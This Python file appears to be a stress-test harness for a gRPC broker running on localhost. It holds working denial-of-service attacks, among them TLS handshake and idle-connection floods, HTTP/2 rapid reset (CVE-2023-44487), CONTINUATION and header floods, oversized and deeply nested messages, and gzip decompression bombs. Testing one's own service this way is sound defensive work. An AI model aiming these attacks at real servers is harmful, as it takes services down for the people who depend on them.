"""What a hostile peer does to a broker's port: each attack is one function of a process of its own, and says at its
end what it managed to do. `python3 attacks.py NAME PORT FOLDER SECONDS` runs one; they never stop on a closed
connection but open the next."""

import datetime
import json
import os
import select
import socket
import ssl
import struct
import sys
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes

# Where the attacker sits: other addresses than the publisher's, as on a real network.
ATTACKERS = [f"127.0.{net}.{host}" for net in (1, 2) for host in range(2, 6)]
SERVICE = "/corridor.v1.Publisher/Publish"
ATTACKS = {}
# Whose calls reach the service: a certificate of its own, since bounds are kept for each.
OTHER_PUBLISHER = "ph-desk"


def attack(function):
    ATTACKS[function.__name__] = function
    return function


class Target:
    def __init__(self, port, folder, seconds):
        self.port, self.folder = port, folder
        self.end = time.monotonic() + seconds
        self.next_address = 0

    def goes_on(self):
        return time.monotonic() < self.end

    def connect(self, address=None):
        if address is None:
            address = ATTACKERS[self.next_address % len(ATTACKERS)]
            self.next_address += 1
        one = socket.socket()
        one.settimeout(2)
        one.bind((address, 0))
        one.connect(("127.0.0.1", self.port))
        return one

    def context(self, certificate="id-desk"):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if certificate:
            context.load_cert_chain(self.folder / f"{certificate}.pem", self.folder / f"{certificate}.key")
        return context

    def secure(self, context, address=None):
        one = self.connect(address)
        try:
            return context.wrap_socket(one, server_hostname="localhost")
        except (OSError, ssl.SSLError):
            one.close()
            raise


class Http2:
    """An authenticated HTTP/2 connection of a member that has no right to publish; frames are sent without regard for
    what the other side allows."""

    def __init__(self, target, context):
        self.socket = target.secure(context)
        self.h2 = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False,
                                               normalize_outbound_headers=False))
        self.h2.initiate_connection()
        self.flush()
        self.next_stream = 1
        self.closed = False

    def headers(self, *more):
        return [(":method", "POST"), (":scheme", "https"), (":path", SERVICE), (":authority", "localhost"),
                ("te", "trailers"), ("content-type", "application/grpc"), *more]

    def take_stream(self):
        stream = self.next_stream
        self.next_stream += 2
        return stream

    def header_block(self, *more):
        return self.h2.encoder.encode(self.headers(*more))

    def frame(self, kind, flags, stream, payload=b""):
        self.raw(struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload)

    def flush(self):
        self.raw(self.h2.data_to_send())

    def raw(self, data):
        self.socket.settimeout(2)
        self.socket.sendall(data)

    def drain(self):
        """Reads what there is; raises when the other side has closed."""
        self.socket.settimeout(0)
        try:
            while True:
                data = self.socket.recv(65536)
                if not data:
                    raise ConnectionResetError
        except (BlockingIOError, ssl.SSLWantReadError):
            pass


def on_connections(target, each, certificate="id-desk"):
    """Opens connection after connection, and on each calls `each` until it is closed: how often, how many closed."""
    done, connections, closed = 0, 0, 0
    context = target.context(certificate)
    while target.goes_on():
        try:
            one = Http2(target, context)
        except OSError:
            closed += 1
            time.sleep(0.01)
            continue
        connections += 1
        try:
            while target.goes_on():
                done += each(one)
                one.drain()
        except OSError:
            closed += 1
        one.socket.close()
    return {"connections": connections, "closed_by_broker": closed, "done": done}


# --- Before a handshake is over.

@attack
def silent(target):
    """2,000 connections that are opened and say nothing, and are opened again when they are closed."""
    sockets, opened, closed = [], 0, 0
    while target.goes_on():
        while len(sockets) < 2000 and target.goes_on():
            try:
                one = target.connect()
            except OSError:
                break
            sockets.append(one)
            opened += 1
        poll = select.poll()
        by_fd = {one.fileno(): one for one in sockets}
        for fd in by_fd:
            poll.register(fd, select.POLLIN | select.POLLHUP)
        for fd, _ in poll.poll(200):
            by_fd[fd].close()
            sockets.remove(by_fd[fd])
            closed += 1
    held = len(sockets)
    for one in sockets:
        one.close()
    return {"opened": opened, "closed_by_broker": closed, "open_at_the_end": held}


def client_hello(context):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    one = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        one.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


@attack
def slow_handshakes(target):
    """400 connections that send a client hello byte by byte."""
    hello = client_hello(target.context())
    sockets, closed, opened = {}, 0, 0
    while target.goes_on():
        while len(sockets) < 400 and target.goes_on():
            try:
                one = target.connect()
            except OSError:
                break
            sockets[one] = 0
            opened += 1
        for one in list(sockets):
            try:
                one.send(hello[sockets[one]:sockets[one] + 1])
                sockets[one] += 1
                if sockets[one] >= len(hello) - 1:
                    raise ConnectionResetError
            except OSError:
                one.close()
                del sockets[one]
                closed += 1
        time.sleep(0.05)
    return {"opened": opened, "ended": closed}


@attack
def half_open_handshakes(target):
    """Client hellos, each answered by the broker with its certificate, and then nothing."""
    hello = client_hello(target.context())
    held, opened, refused = [], 0, 0
    while target.goes_on():
        try:
            one = target.connect()
            one.sendall(hello)
            held.append(one)
            opened += 1
        except OSError:
            refused += 1
        if len(held) > 1500:
            held.pop(0).close()
    return {"opened": opened, "refused": refused}


@attack
def handshake_flood(target):
    """Whole handshakes as fast as can be, with a certificate of another authority."""
    make_self_signed(target.folder, "stranger", [])
    context = target.context("stranger")
    done = 0
    while target.goes_on():
        try:
            one = target.secure(context)
            one.settimeout(2)
            one.recv(1)
        except OSError:
            pass
        else:
            one.close()
        done += 1
    return {"handshakes": done}


@attack
def garbage(target):
    """Random bytes, and the beginning of a TLS record of the greatest length."""
    done = 0
    while target.goes_on():
        try:
            one = target.connect()
            one.sendall(b"\x16\x03\x01\xff\xff" + os.urandom(2048) if done % 2 else os.urandom(4096))
            one.close()
        except OSError:
            pass
        done += 1
    return {"connections": done}


@attack
def old_tls(target):
    """TLS 1.2, which knows renegotiation: no such handshake may succeed."""
    context = target.context()
    context.minimum_version = ssl.TLSVersion.TLSv1_2
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    done, succeeded = 0, 0
    while target.goes_on():
        done += 1
        try:
            target.secure(context).close()
            succeeded += 1
        except OSError:
            time.sleep(0.002)
    return {"handshakes": done, "succeeded": succeeded}


def make_self_signed(folder, name, names):
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "stranger")])
    now = datetime.datetime.utcnow()
    uri = x509.UniformResourceIdentifier("spiffe://sea.example/agency/id-desk")
    certificate = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
                   .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
                   .not_valid_after(now + datetime.timedelta(days=1))
                   .add_extension(x509.SubjectAlternativeName([uri, *map(x509.DNSName, names)]), critical=False)
                   .sign(key, hashes.SHA256()))
    (folder / f"{name}.pem").write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    (folder / f"{name}.key").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))


@attack
def huge_certificates(target):
    """Certificates with 1,000 and with 2,500 names, and chains of 60 of them."""
    for name, count in (("thousand", 1000), ("huge", 2500)):
        make_self_signed(target.folder, name, [f"h{i:04d}.example" for i in range(count)])
    chain = (target.folder / "thousand.pem").read_text(encoding="ascii")
    (target.folder / "chain.pem").write_text(chain * 4, encoding="ascii")
    (target.folder / "chain.key").write_bytes((target.folder / "thousand.key").read_bytes())
    contexts = [target.context(name) for name in ("thousand", "huge", "chain")]
    done = 0
    while target.goes_on():
        try:
            one = target.secure(contexts[done % 3])
            one.settimeout(2)
            one.recv(1)
            one.close()
        except OSError:
            pass
        done += 1
    return {"handshakes": done}


# --- By somebody who has a certificate of the region.

@attack
def header_flood(target):
    """Calls with 60 KB of headers each."""
    filler = [(f"x-filler-{i}", "f" * 1000) for i in range(60)]

    def each(one):
        block = one.header_block(*filler)
        stream = one.take_stream()
        one.frame(1, 0, stream, block[:16384])
        rest = [block[i:i + 16384] for i in range(16384, len(block), 16384)]
        for i, part in enumerate(rest):
            one.frame(9, 4 if i + 1 == len(rest) else 0, stream, part)
        return 1
    return on_connections(target, each)


@attack
def endless_headers(target):
    """One header block that never ends: CONTINUATION after CONTINUATION."""
    def each(one):
        if one.next_stream == 1:
            one.frame(1, 0, one.take_stream(), one.header_block())
        # A literal header of 1,000 bytes, never to be indexed.
        one.frame(9, 0, 1, (b"\x10\x03x-a\x7f\xe9\x06" + b"a" * 1000) * 16)
        return 1
    return on_connections(target, each)


@attack
def stream_flood(target):
    """Streams far beyond what the broker allows at once, none of which ends."""
    def each(one):
        for _ in range(100):
            one.frame(1, 4, one.take_stream(), one.header_block())
        return 100
    return on_connections(target, each)


@attack
def rapid_reset(target):
    """Calls that are reset as soon as they are begun (CVE-2023-44487)."""
    def each(one):
        out = []
        for _ in range(100):
            stream = one.take_stream()
            block = one.header_block()
            out.append(struct.pack(">I", len(block))[1:] + b"\x01\x04" + struct.pack(">I", stream) + block)
            out.append(b"\x00\x00\x04\x03\x00" + struct.pack(">II", stream, int(ErrorCodes.CANCEL)))
        one.raw(b"".join(out))
        return 100
    return on_connections(target, each)


@attack
def reset_by_publisher(target):
    """The same, by a member that may publish: each call reaches its service."""
    return on_connections(target, lambda one: reset_once(one), certificate=OTHER_PUBLISHER)


def reset_once(one):
    out = []
    for _ in range(100):
        stream = one.take_stream()
        block = one.header_block()
        out.append(struct.pack(">I", len(block))[1:] + b"\x01\x04" + struct.pack(">I", stream) + block)
        out.append(b"\x00\x00\x04\x03\x00" + struct.pack(">II", stream, int(ErrorCodes.CANCEL)))
    one.raw(b"".join(out))
    return 100


@attack
def ping_flood(target):
    """Pings and settings, as many as go."""
    def each(one):
        one.raw((b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + b"p" * 8 + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00") * 100)
        return 200
    return on_connections(target, each)


def publish_with(target, message_of):
    """One call after another by a member that may publish, each with a message of `message_of`."""
    def each(one):
        stream = one.take_stream()
        one.frame(1, 4, stream, one.header_block())
        message = message_of()
        data = message if isinstance(message, bytes) else b""
        for i in range(0, len(data), 16384):
            one.frame(0, 0, stream, data[i:i + 16384])
        return 1
    return on_connections(target, each, certificate=OTHER_PUBLISHER)


@attack
def oversized_messages(target):
    """Messages that say they have 2 GiB, and begin; beyond flow control too."""
    begin = b"\x00" + struct.pack(">I", (1 << 31) - 1) + b"\x00" * (256 * 1024)
    return publish_with(target, lambda: begin)


@attack
def nested_messages(target):
    """Messages nested 20,000 deep, in groups that no message knows, small enough to be taken in."""
    inner = b"\xc3\x3e" * 20_000 + b"\xc4\x3e" * 20_000
    message = b"\x00" + struct.pack(">I", len(inner)) + inner

    def each(one):
        stream = one.take_stream()
        one.frame(1, 4, stream, one.header_block())
        for i in range(0, len(message), 16384):
            last = i + 16384 >= len(message)
            one.frame(0, 1 if last else 0, stream, message[i:i + 16384])
        return 1
    return on_connections(target, each, certificate=OTHER_PUBLISHER)


@attack
def compressed_bombs(target):
    """Messages that say they are compressed."""
    import gzip
    packed = gzip.compress(b"\x00" * (32 << 20))
    message = b"\x01" + struct.pack(">I", len(packed)) + packed

    def each(one):
        stream = one.take_stream()
        one.frame(1, 4, stream, one.header_block(("grpc-encoding", "gzip")))
        for i in range(0, len(message), 16384):
            last = i + 16384 >= len(message)
            one.frame(0, 1 if last else 0, stream, message[i:i + 16384])
        return 1
    return on_connections(target, each, certificate=OTHER_PUBLISHER)


def main():
    import pathlib
    name, port, folder, seconds = sys.argv[1:5]
    os.nice(int(sys.argv[5]) if len(sys.argv) > 5 else 0)
    target = Target(int(port), pathlib.Path(folder), float(seconds))
    print(json.dumps(ATTACKS[name](target)))


if __name__ == "__main__":

    main()
